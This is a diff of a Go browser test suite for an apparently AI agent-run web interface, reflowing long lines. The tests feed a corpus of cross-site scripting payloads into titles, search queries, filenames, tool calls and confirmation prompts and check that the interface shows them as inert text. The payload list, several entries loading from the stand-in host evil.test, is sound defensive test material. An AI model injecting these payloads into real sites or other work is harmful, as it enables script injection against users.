@@ -22,23 +22,40 @@ import (
 // and text that is not what it looks like. Each calls or loads something that a tab hears of.
 var payloads = []string{
 	// Elements that run or load.
-	`<script>alert(1)</script>`, `<ScRiPt src=//evil.test/a.js></sCrIpT>`, `<img src=x onerror=alert(1)>`, `<img src=http://evil.test/b.png>`, `<svg onload=alert(1)>`,
-	`<svg><script>alert(1)</script></svg>`, `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x">`, `<iframe src=javascript:alert(1)>`,
-	`<iframe srcdoc="<script>parent.alert(1)</script>">`, `<object data=http://evil.test/c>`, `<embed src=javascript:alert(1)>`, `<video><source onerror=alert(1)>`, `<audio src=http://evil.test/d onerror=alert(1)>`,
-	`<details open ontoggle=alert(1)>`, `<body onload=alert(1)>`, `<input autofocus onfocus=alert(1)>`, `<select autofocus onfocus=alert(1)>`, `<textarea autofocus onfocus=alert(1)>`, `<marquee onstart=alert(1)>`,
-	`<math><mtext></p><img src=x onerror=alert(1)>`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<template><img src=x onerror=alert(1)></template>`, `<dialog open onclose=alert(1)>`,
-	`<a href=javascript:alert(1)>click</a>`, `<a href="http://evil.test/e" ping="http://evil.test/f">click</a>`, `<form action=http://evil.test/g><button>Check again</button></form>`, `<button formaction=javascript:alert(1)>Answer</button>`,
-	`<link rel=stylesheet href=http://evil.test/h.css>`, `<link rel=prefetch href=http://evil.test/i>`, `<base href=http://evil.test/>`, `<meta http-equiv=refresh content="0;url=http://evil.test/j">`,
-	`<style>@import "http://evil.test/k.css";</style>`, `<style>*{background:url(http://evil.test/l)}</style>`, `<div style="background:url(http://evil.test/m)">`, `<xss id=x tabindex=1 onfocus=alert(1)>`,
+	`<script>alert(1)</script>`, `<ScRiPt src=//evil.test/a.js></sCrIpT>`, `<img src=x onerror=alert(1)>`,
+	`<img src=http://evil.test/b.png>`, `<svg onload=alert(1)>`,
+	`<svg><script>alert(1)</script></svg>`, `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
+	`<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x">`, `<iframe src=javascript:alert(1)>`,
+	`<iframe srcdoc="<script>parent.alert(1)</script>">`, `<object data=http://evil.test/c>`,
+	`<embed src=javascript:alert(1)>`, `<video><source onerror=alert(1)>`,
+	`<audio src=http://evil.test/d onerror=alert(1)>`,
+	`<details open ontoggle=alert(1)>`, `<body onload=alert(1)>`, `<input autofocus onfocus=alert(1)>`,
+	`<select autofocus onfocus=alert(1)>`, `<textarea autofocus onfocus=alert(1)>`, `<marquee onstart=alert(1)>`,
+	`<math><mtext></p><img src=x onerror=alert(1)>`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
+	`<template><img src=x onerror=alert(1)></template>`, `<dialog open onclose=alert(1)>`,
+	`<a href=javascript:alert(1)>click</a>`, `<a href="http://evil.test/e" ping="http://evil.test/f">click</a>`,
+	`<form action=http://evil.test/g><button>Check again</button></form>`,
+	`<button formaction=javascript:alert(1)>Answer</button>`,
+	`<link rel=stylesheet href=http://evil.test/h.css>`, `<link rel=prefetch href=http://evil.test/i>`,
+	`<base href=http://evil.test/>`, `<meta http-equiv=refresh content="0;url=http://evil.test/j">`,
+	`<style>@import "http://evil.test/k.css";</style>`, `<style>*{background:url(http://evil.test/l)}</style>`,
+	`<div style="background:url(http://evil.test/m)">`, `<xss id=x tabindex=1 onfocus=alert(1)>`,
 	// Ends of what they may stand in.
-	`"><script>alert(1)</script>`, `'><img src=x onerror=alert(1)>`, `" autofocus onfocus=alert(1) x="`, `' onmouseover=alert(1) x='`, `</title><script>alert(1)</script>`, `</textarea><script>alert(1)</script>`,
-	`</style><script>alert(1)</script>`, `</script><script>alert(1)</script>`, `--><script>alert(1)</script>`, `]]><script>alert(1)</script>`, `</mark></div></aside><script>alert(1)</script>`, "`-alert(1)-`", `\"-alert(1)//`, `\u003cimg src=x onerror=alert(1)\u003e`,
+	`"><script>alert(1)</script>`, `'><img src=x onerror=alert(1)>`, `" autofocus onfocus=alert(1) x="`,
+	`' onmouseover=alert(1) x='`, `</title><script>alert(1)</script>`, `</textarea><script>alert(1)</script>`,
+	`</style><script>alert(1)</script>`, `</script><script>alert(1)</script>`, `--><script>alert(1)</script>`,
+	`]]><script>alert(1)</script>`, `</mark></div></aside><script>alert(1)</script>`, "`-alert(1)-`", `\"-alert(1)//`,
+	`\u003cimg src=x onerror=alert(1)\u003e`,
 	// Addresses, and Markdown that makes some.
-	`javascript:alert(1)`, `JaVaScRiPt://%0aalert(1)`, `data:text/html,<script>alert(1)</script>`, `vbscript:msgbox(1)`, `[click](javascript:alert(1))`, `![x](http://evil.test/n.png)`, `[x]: http://evil.test/o`, `<javascript:alert(1)>`,
+	`javascript:alert(1)`, `JaVaScRiPt://%0aalert(1)`, `data:text/html,<script>alert(1)</script>`, `vbscript:msgbox(1)`,
+	`[click](javascript:alert(1))`, `![x](http://evil.test/n.png)`, `[x]: http://evil.test/o`, `<javascript:alert(1)>`,
 	`<http://evil.test/p>`, `[1](http://evil.test/q)`,
 	// Templates, entities, and text in disguise.
-	`{{constructor.constructor('alert(1)')()}}`, `${alert(1)}`, `{{template "top" .}}`, `<%= alert(1) %>`, `#{alert(1)}`, `&lt;script&gt;alert(1)&lt;/script&gt;`, `&#60;img src=x onerror=alert(1)&#62;`, `%3Cscript%3Ealert(1)%3C/script%3E`,
-	`+ADw-script+AD4-alert(1)+ADw-/script+AD4-`, `＜script＞alert(1)＜/script＞`, "<scr\u00adipt>alert(1)</scr\u00adipt>", `<<script>script>alert(1)<</script>/script>`,
+	`{{constructor.constructor('alert(1)')()}}`, `${alert(1)}`, `{{template "top" .}}`, `<%= alert(1) %>`,
+	`#{alert(1)}`, `&lt;script&gt;alert(1)&lt;/script&gt;`, `&#60;img src=x onerror=alert(1)&#62;`,
+	`%3Cscript%3Ealert(1)%3C/script%3E`,
+	`+ADw-script+AD4-alert(1)+ADw-/script+AD4-`, `＜script＞alert(1)＜/script＞`, "<scr\u00adipt>alert(1)</scr\u00adipt>",
+	`<<script>script>alert(1)<</script>/script>`,
 }
 
 // clean names what of a page is not ours: elements that run, load or lead away, handlers,
@@ -71,9 +88,11 @@ func (tab *Tab) holds(state string, shown []string) {
 	if len(shown) == 0 {
 		return
 	}
-	words := packed(Eval[string](tab, `[...document.querySelectorAll('details')].forEach(d => d.open = true) || document.body.innerText`))
+	words := packed(Eval[string](tab,
+		`[...document.querySelectorAll('details')].forEach(d => d.open = true) || document.body.innerText`))
 	for _, p := range shown {
-		if !strings.Contains(words, packed(p)) && !strings.Contains(words, packed(strings.ReplaceAll(p, "\u00ad", ""))) {
+		if !strings.Contains(words, packed(p)) && !strings.Contains(words,
+			packed(strings.ReplaceAll(p, "\u00ad", ""))) {
 			tab.t.Errorf("%s does not show %q", state, p)
 		}
 	}
@@ -92,12 +111,15 @@ func TestHostileWords(t *testing.T) {
 	if len(payloads) < 60 {
 		t.Fatalf("the corpus has %d payloads", len(payloads))
 	}
-	st := story{title: "Report " + payloads[0] + payloads[36], asks: payloads[:12], task: "What is written in the ledger: " + strings.Join(payloads[:20], " ") + "?"}
+	st := story{title: "Report " + payloads[0] + payloads[36], asks: payloads[:12],
+		task: "What is written in the ledger: " + strings.Join(payloads[:20], " ") + "?"}
 	var content strings.Builder
 	const on = 9 // payloads of a page
 	for from := 0; from < len(payloads); from += on {
 		some := payloads[from:min(from+on, len(payloads))]
-		p := told{key: fmt.Sprintf("k%d", from), path: "/" + url.PathEscape(some[0]) + "?q=" + url.QueryEscape(some[1]), lang: `en" onload="alert(1)`, title: "Ledger " + some[0] + some[len(some)-1], snippet: strings.Join(some, " ")}
+		p := told{key: fmt.Sprintf("k%d", from), path: "/" + url.PathEscape(some[0]) + "?q=" + url.QueryEscape(some[1]),
+			lang: `en" onload="alert(1)`, title: "Ledger " + some[0] + some[len(some)-1],
+			snippet: strings.Join(some, " ")}
 		for i, payload := range some {
 			p.paragraphs = append(p.paragraphs, sentence(from+i, payload))
 			fmt.Fprintf(&content, "- %s {%s}\n", sentence(from+i, payload), p.key)
@@ -109,7 +131,8 @@ func TestHostileWords(t *testing.T) {
 	attachments := []map[string]string{}
 	for _, name := range payloads {
 		if !strings.ContainsAny(name, `/\`) {
-			attachments = append(attachments, map[string]string{"filename": name + ".txt", "text": "The file says " + name})
+			attachments = append(attachments, map[string]string{"filename": name + ".txt",
+				"text": "The file says " + name})
 		}
 	}
 	run := s.begins(st, map[string]any{"attachments": attachments[:8]})
@@ -138,13 +161,15 @@ func TestHostileWords(t *testing.T) {
 		var kept evidence.Text
 		s.api("GET", fmt.Sprintf("/v1/runs/%s/sources/%d/text", run, source.N), &kept)
 		tab.holds("a source", []string{source.Title})
-		if words := Eval[string](tab, `(e => { e.querySelectorAll('a.mark').forEach(a => a.remove()); return e.textContent })(document.querySelector('.words').cloneNode(true))`); words != kept.Text {
+		if words := Eval[string](tab,
+			`(e => { e.querySelectorAll('a.mark').forEach(a => a.remove()); return e.textContent })(document.querySelector('.words').cloneNode(true))`); words != kept.Text {
 			t.Errorf("source %d is shown as %q, and is %q", source.N, words, kept.Text)
 		}
 		texts += kept.Text
 	}
 	for _, p := range payloads {
-		if !strings.Contains(packed(texts), packed(p)) && !strings.Contains(packed(texts), packed(strings.ReplaceAll(p, "\u00ad", ""))) {
+		if !strings.Contains(packed(texts), packed(p)) && !strings.Contains(packed(texts),
+			packed(strings.ReplaceAll(p, "\u00ad", ""))) {
 			t.Errorf("%q was not read as words of any page", p)
 		}
 	}
@@ -160,7 +185,8 @@ func TestHostileWords(t *testing.T) {
 	tab.Expect("status of 4") // what cannot be found, or asked so
 	for i := 0; i+4 <= len(payloads); i += 4 {
 		some := payloads[i : i+4]
-		tab.Goto(s.URL + "/runs?" + url.Values{"q": {some[0]}, "state": {some[1]}, "agent": {some[2]}, "since": {some[3]}}.Encode())
+		tab.Goto(s.URL + "/runs?" + url.Values{"q": {some[0]}, "state": {some[1]}, "agent": {some[2]},
+			"since": {some[3]}}.Encode())
 		tab.holds("what is looked for", nil)
 		if asked := Eval[string](tab, `document.querySelector('input[name=q]').value`); asked != some[0] {
 			t.Errorf("words that are looked for come back as %q, not %q", asked, some[0])
@@ -176,9 +202,11 @@ func TestHostileWords(t *testing.T) {
 			t.Errorf("a question comes back as %q, not %q", asked, question)
 		}
 	}
-	export := pages(t, nil, map[string]string{"/": string(s.fetch("/v1/runs/" + run + "/report?format=html")), "/favicon.ico": ""})
+	export := pages(t, nil, map[string]string{"/": string(s.fetch("/v1/runs/" + run + "/report?format=html")),
+		"/favicon.ico": ""})
 	tab.Goto(export + "/")
-	if wrong := Eval[[]string](tab, clean); !slices.Equal(wrong, []string{"meta Content-Security-Policy", "style"}) { // its own
+	// its own
+	if wrong := Eval[[]string](tab, clean); !slices.Equal(wrong, []string{"meta Content-Security-Policy", "style"}) {
 		t.Errorf("the export has %v", wrong)
 	}
 }
@@ -201,12 +229,17 @@ func TestHostileNews(t *testing.T) {
 	for i, p := range payloads {
 		happens("call", job.Entry{Iteration: i, CallID: p, Name: p, Text: p})
 		happens("result", job.Entry{Iteration: i, Name: p, Text: p})
-		happens("result", job.Entry{Iteration: i, Name: "web_search_tool", Search: &agent.Searched{Query: p, Providers: []citewell.ProviderReport{
-			{Name: "engine " + p, Outcome: citewell.ProviderOutcome("failed " + p), Detail: p}, {Name: "other", Outcome: citewell.ProviderFailed, Detail: p}}, Hits: []agent.Hit{{Title: p, URL: p}}}})
-		happens("fetch", job.Entry{Iteration: i, Fetch: &agent.Fetched{N: i, URL: p, Outcome: citewell.FetchOutcome("refused " + p)}})
-		happens("fetch", job.Entry{Iteration: i, Fetch: &agent.Fetched{N: i, URL: "http://site.example/", FinalURL: p, Outcome: citewell.FetchOK}})
+		happens("result", job.Entry{Iteration: i, Name: "web_search_tool",
+			Search: &agent.Searched{Query: p, Providers: []citewell.ProviderReport{
+				{Name: "engine " + p, Outcome: citewell.ProviderOutcome("failed " + p), Detail: p},
+				{Name: "other", Outcome: citewell.ProviderFailed, Detail: p}}, Hits: []agent.Hit{{Title: p, URL: p}}}})
+		happens("fetch", job.Entry{Iteration: i, Fetch: &agent.Fetched{
+			N: i, URL: p, Outcome: citewell.FetchOutcome("refused " + p)}})
+		happens("fetch", job.Entry{Iteration: i, Fetch: &agent.Fetched{
+			N: i, URL: "http://site.example/", FinalURL: p, Outcome: citewell.FetchOK}})
 		happens("source", job.Entry{Iteration: i, Name: "tool:wiki?" + p, Text: "wiki(" + p + ")", Number: 2*i + 1})
-		happens("source", job.Entry{Iteration: i, Name: "file:///home/u/" + p + ".txt", Text: p + ".txt", Number: 2*i + 2})
+		happens("source", job.Entry{Iteration: i, Name: "file:///home/u/" + p + ".txt", Text: p + ".txt",
+			Number: 2*i + 2})
 		for _, kind := range []string{"rejected", "model_failed", job.EventWarning, job.EventPutOff, "over", "kept"} {
 			happens(kind, job.Entry{Iteration: i, Name: p, Text: p})
 		}
@@ -218,7 +251,8 @@ func TestHostileNews(t *testing.T) {
 	}
 	asks := func(n int, p string, arguments map[string]string) {
 		t.Helper()
-		q, err := json.Marshal(agent.Question{Run: lease.Run, Key: fmt.Sprintf("confirm %d %s", n, p), Kind: "confirmation", Tool: "tool " + p, Why: "because " + p, Arguments: tool.MustMarshal(arguments)})
+		q, err := json.Marshal(agent.Question{Run: lease.Run, Key: fmt.Sprintf("confirm %d %s", n, p),
+			Kind: "confirmation", Tool: "tool " + p, Why: "because " + p, Arguments: tool.MustMarshal(arguments)})
 		if err == nil {
 			_, err = runs.AppendEvents(t.Context(), lease, []runstore.RunEvent{{Type: job.EventQuestion, Data: q}})
 		}
@@ -227,7 +261,8 @@ func TestHostileNews(t *testing.T) {
 		}
 	}
 	asks(0, payloads[0], nil)
-	if err := runs.ChangeState(t.Context(), lease, runstore.RunChange{State: runstore.RunWaiting, Detail: payloads[0]}, nil); err != nil {
+	if err := runs.ChangeState(t.Context(), lease, runstore.RunChange{State: runstore.RunWaiting, Detail: payloads[0]},
+		nil); err != nil {
 		t.Fatal(err)
 	}
 	tab := Open(t, Options{})
@@ -241,10 +276,12 @@ func TestHostileNews(t *testing.T) {
 		}
 		p := strings.Join(payloads[n:n+6], " ")
 		asks(n+1, p, some)
-		tab.WaitFor(fmt.Sprintf(`document.querySelector('.question strong')?.textContent === %q`, "tool "+p)) // which comes by script
+		// which comes by script
+		tab.WaitFor(fmt.Sprintf(`document.querySelector('.question strong')?.textContent === %q`, "tool "+p))
 		tab.holds("a confirmation", nil)
 		said, arguments := Eval[string](tab, `document.querySelector('.question pre').textContent`), map[string]string{}
-		if err := json.Unmarshal([]byte(said), &arguments); err != nil || !maps.Equal(arguments, some) || strings.Contains(said, `\u003c`) && !strings.Contains(p, `\u003c`) {
+		if err := json.Unmarshal([]byte(said), &arguments); err != nil || !maps.Equal(arguments, some) ||
+			strings.Contains(said, `\u003c`) && !strings.Contains(p, `\u003c`) {
 			t.Errorf("the arguments %q are shown as %s: %v", p, said, err)
 		}
 		if said := tab.Text(".question"); !strings.Contains(packed(said), packed("because "+p)) {
@@ -252,7 +289,9 @@ func TestHostileNews(t *testing.T) {
 		}
 	}
 	tab.Axe("a hostile confirmation")
-	if err := runs.ChangeState(t.Context(), lease, runstore.RunChange{State: runstore.RunError, Outcome: runstore.RunModelFailed, Detail: strings.Join(payloads, " ")}, nil); err != nil {
+	if err := runs.ChangeState(t.Context(), lease, runstore.RunChange{
+		State: runstore.RunError, Outcome: runstore.RunModelFailed, Detail: strings.Join(payloads, " ")},
+		nil); err != nil {
 		t.Fatal(err)
 	}
 	for _, path := range []string{"", "/log", "/map", "/time"} {
